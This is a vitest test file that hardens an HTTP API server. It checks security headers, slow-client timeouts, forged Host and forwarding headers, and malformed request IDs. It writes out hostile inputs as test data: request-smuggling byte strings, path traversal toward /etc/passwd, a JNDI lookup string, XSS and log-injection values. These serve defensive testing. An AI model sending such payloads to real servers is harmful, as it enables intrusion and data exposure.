/** What surrounds the routes: headers for browsers, slow clients, and requests that no client library would send. */
import { connect } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { REALTIME_PATH } from "@agent-engine/protocol/realtime.ts";
import { startMailServer, type MailServer } from "@agent-engine/testing/mail-server.ts";
import { waitFor } from "@agent-engine/testing/wait-for.ts";
import { SECURITY_HEADERS, type AnswerKind } from "./http/security-headers.ts";
import { furnish, BODIES, type Furnished } from "./isolation-fixture.ts";
import { operationsOf, pathOf, type Operation } from "./operations-fixture.ts";
import { person } from "./people-fixture.ts";
import { call, ORIGIN, startServerFixture, type ServerFixture } from "./server-fixture.ts";

let fixture: ServerFixture;
let secure: ServerFixture;
let mails: MailServer;
let operations: Operation[];
let furnished: Furnished;

beforeAll(async () => {
  mails = await startMailServer();
  const accounts = {
    consoleUrl: "https://console.example",
    mail: { smtpUrl: mails.url, from: "Agent Engine <no-reply@example.com>" },
  };
  fixture = await startServerFixture({ accounts, receive: { headersMs: 300, requestMs: 600 } });
  secure = await startServerFixture({ accounts: { nodeEnv: "production", consoleUrl: "https://console.example" } });
  operations = await operationsOf(fixture);
  furnished = await furnish(fixture, fixture.demo, ORIGIN, "member_0198c0de00007000800000000000cafe");
});
afterAll(() => Promise.all([fixture.stop(), secure.stop(), mails.stop()]));

/** An answer's headers, without reading a stream to its end. */
async function head(
  method: string,
  path: string,
  { token, body }: { token?: string; body?: unknown } = {},
  at = fixture,
) {
  const stop = new AbortController();
  const response = await fetch(`${at.url}${path}`, {
    method,
    headers: {
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      ...(body ? { "content-type": "application/json" } : {}),
    },
    ...(body ? { body: JSON.stringify(body) } : {}),
    signal: stop.signal,
  });
  const headers = Object.fromEntries(response.headers);
  stop.abort();
  return { status: response.status, headers };
}

/** Bytes as they are, and all that comes back until the server closes the connection. */
function raw(bytes: string | Buffer): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(fixture.server.port, "127.0.0.1", () => void socket.write(bytes));
    let text = "";
    socket.on("data", (chunk) => (text += chunk.toString("latin1")));
    socket.on("error", () => {});
    socket.on("close", () => resolve(text));
  });
}

describe("every answer says what browsers may do with it", () => {
  test("every API route, whether it answers or refuses", async () => {
    for (const operation of operations) {
      const path = pathOf(operation, furnished.own);
      const body = operation.body ? (BODIES[operation.name]?.(furnished.own) ?? { token: "x" }) : undefined;
      // What would take away the key that asks, or end a thing that others need, is asked without a credential alone.
      const asks = operation.method === "DELETE" ? [{}] : [{}, { token: fixture.demo.secretKey, body }];
      for (const how of asks) {
        const { headers, status } = await head(operation.method, path, how);
        expect([operation.name, status, headers]).toMatchObject([operation.name, status, SECURITY_HEADERS.data]);
        expect([operation.name, headers["cache-control"]]).toEqual([
          operation.name,
          expect.stringMatching(/no-store|no-cache/),
        ]);
        expect([operation.name, headers["x-powered-by"], headers["server"]]).toEqual([
          operation.name,
          undefined,
          undefined,
        ]);
      }
    }
  });

  test.each<[AnswerKind, string, RegExp]>([
    ["page", "/docs", /^public/],
    ["page file", "/docs/start.js", /^public/],
    ["page file", "/docs/scalar.js", /^public/],
    ["document", "/openapi.json", /^public/],
    ["widget", "/widget.js", /^public, max-age=300/],
    ["data", "/healthz", /no-store/],
    ["data", "/readyz", /no-store/],
    ["data", "/nothing-here", /no-store/],
    ["data", "/docs/nothing-here", /no-store/],
    ["data", "/widget/nothing-here.js", /no-store/],
    ["data", "/api/auth/get-session", /no-store|private/],
    ["data", `${REALTIME_PATH}/?EIO=4&transport=polling`, /no-store/],
  ])("%s: %s", async (kind, path, caching) => {
    const { headers } = await head("GET", path);
    expect(headers).toMatchObject(SECURITY_HEADERS[kind]);
    expect(headers["cache-control"]).toMatch(caching);
    expect(headers["strict-transport-security"]).toBeUndefined();
  });

  test("a page that somebody frames or injects into can do nothing", async () => {
    for (const { "content-security-policy": policy } of Object.values(SECURITY_HEADERS)) {
      expect(policy).toMatch(/default-src 'none'/);
      expect(policy).toMatch(/frame-ancestors 'none'/);
      expect(policy).not.toMatch(/script-src[^;]*('unsafe|\*|https?:|data:)/);
    }
  });

  test("in production browsers are told to come by https only", async () => {
    for (const path of ["/docs", "/openapi.json", "/healthz", "/v1/agents", "/widget.js"]) {
      const { headers } = await head("GET", path, {}, secure);
      expect([path, headers["strict-transport-security"]]).toEqual([path, "max-age=31536000"]);
    }
  });
});

describe("a slow client", () => {
  test("that never ends its headers is let go", async () => {
    expect(await raw("GET /healthz HTTP/1.1\r\nHost: a\r\nX-Slow: ")).toMatch(/^HTTP\/1\.1 408 /);
  });

  test("that never ends its body is let go, and the log knows of no fault of ours", async () => {
    const start = `POST /v1/invitations/read HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"tok`;
    const answer = await raw(start);
    expect(answer).not.toMatch(/HTTP\/1\.1 5\d\d/);
    expect(answer).toMatch(/^HTTP\/1\.1 408 /);
    expect(fixture.logged.filter(({ status }) => Number(status) >= 500)).toEqual([]);
  });

  test("does not hold the others up", async () => {
    const slow = Array.from({ length: 50 }, () => raw("GET /healthz HTTP/1.1\r\nHost: a\r\nX: "));
    expect((await head("GET", "/healthz")).status).toBe(200);
    await Promise.all(slow);
  });
});

describe("a request that no client library sends", () => {
  const get = (host: string, path = "/openapi.json", more = "") =>
    raw(`GET ${path} HTTP/1.1\r\n${host}${more}Connection: close\r\n\r\n`);

  test("gains nothing by its Host", async () => {
    for (const host of [
      "evil.test",
      "a b",
      "",
      "evil.test:99999",
      "evil.test/path",
      "user@evil.test",
      "[::1",
      "evil.test\u0000",
      "..",
      "%00",
      "a".repeat(5_000),
    ]) {
      for (const path of [
        "/openapi.json",
        "/docs",
        "/v1/agents",
        "/api/auth/get-session",
        "http://evil.test/v1/agents",
      ]) {
        const answer = await get(`Host: ${host}\r\n`, path);
        expect([host.slice(0, 50), path, /^HTTP\/1\.1 [2-4]\d\d /.test(answer)]).toEqual([
          host.slice(0, 50),
          path,
          true,
        ]);
        expect(answer).not.toContain("evil.test");
      }
    }
    expect(await get("")).toMatch(/^HTTP\/1\.1 400 /);
    expect(await get("Host: a\r\nHost: evil.test\r\n")).not.toMatch(/evil\.test|HTTP\/1\.1 5/);
    const forwarded = await get(
      "Host: a\r\n",
      "/docs",
      "X-Forwarded-Host: evil.test\r\nX-Forwarded-Proto: javascript\r\nForwarded: host=evil.test\r\n",
    );
    expect(forwarded).toMatch(/^HTTP\/1\.1 200 /);
    expect(forwarded).not.toContain("evil.test");
  });

  test("puts no Host of its own into the links of mails", async () => {
    const { email } = await person(fixture);
    const body = JSON.stringify({ email });
    const head = `Content-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n`;
    const forged = `Host: evil.test\r\nX-Forwarded-Host: evil.test\r\n`;
    const answer = await raw(`POST /api/auth/request-password-reset HTTP/1.1\r\n${forged}${head}\r\n${body}`);
    expect(answer).toMatch(/^HTTP\/1\.1 200 /);
    const reset = () => mails.received.find(({ to }) => to === email);
    await waitFor(() => reset() !== undefined, { describe: "the mail" });
    expect(reset()?.text).toContain("https://console.example/");
    expect(reset()?.text).not.toContain("evil.test");
  });

  test.each([
    "a b",
    "<script>alert(1)</script>",
    'x"}\\n{"level":60',
    "x".repeat(129),
    "a,b",
    "\u00ff\u00fe",
    "${jndi:ldap://evil.test}",
    "../../etc",
    "\u001b[31mred",
  ])("names itself %j, and gets a name of ours", async (id) => {
    const before = fixture.logged.length;
    const answer = await get("Host: a\r\n", "/v1/agents", `X-Request-Id: ${id}\r\n`);
    const given = /x-request-id: (\S+)\r\n/i.exec(answer)?.[1];
    if (given !== undefined) expect(given).toMatch(/^req_[0-9a-f]{32}$/);
    expect(answer).toMatch(/^HTTP\/1\.1 40[01] /);
    expect(JSON.stringify(fixture.logged.slice(before))).not.toContain(JSON.stringify(id).slice(1, -1));
  });

  test("a well-formed name is kept, so that logs can be joined", async () => {
    const answer = await call(fixture, "GET", "/v1/agents", { headers: { "x-request-id": "trace-1.2:3_4" } });
    expect([answer.headers.get("x-request-id"), answer.body.requestId]).toEqual(["trace-1.2:3_4", "trace-1.2:3_4"]);
  });

  test("smuggles no second request, and no answer tells of our insides", async () => {
    const smuggled = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n";
    for (const bytes of [
      `POST /v1/runs HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
      `POST /v1/runs HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc${smuggled}`,
      `POST /v1/runs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${smuggled}`,
      `POST /v1/runs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n${smuggled}`,
      `GET /v1/runs\u0000 HTTP/1.1\r\nHost: a\r\n\r\n`,
      `GET /v1/runs HTTP/9.9\r\nHost: a\r\n\r\n`,
      `GET /%ff%fe%00/..%2f..%2fetc/passwd HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`,
      `GET /widget/%2e%2e/%2e%2e/package.json HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`,
      `GET /widget/../../package.json HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`,
      `TRACE / HTTP/1.1\r\nHost: a\r\nCookie: secret\r\nConnection: close\r\n\r\n`,
      `CONNECT evil.test:80 HTTP/1.1\r\nHost: a\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: a\r\nX: ${"y".repeat(20_000)}\r\n\r\n`,
      Buffer.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01]),
    ]) {
      const answer = await raw(bytes);
      const label = bytes.toString().slice(0, 60);
      expect([label, (answer.match(/HTTP\/1\.1 \d/g) ?? []).length <= 1]).toEqual([label, true]);
      expect([label, /HTTP\/1\.1 (2|5)\d\d|workspaces|node_modules|\.ts:|at \w+ \(/.test(answer)]).toEqual([
        label,
        false,
      ]);
    }
  });
});
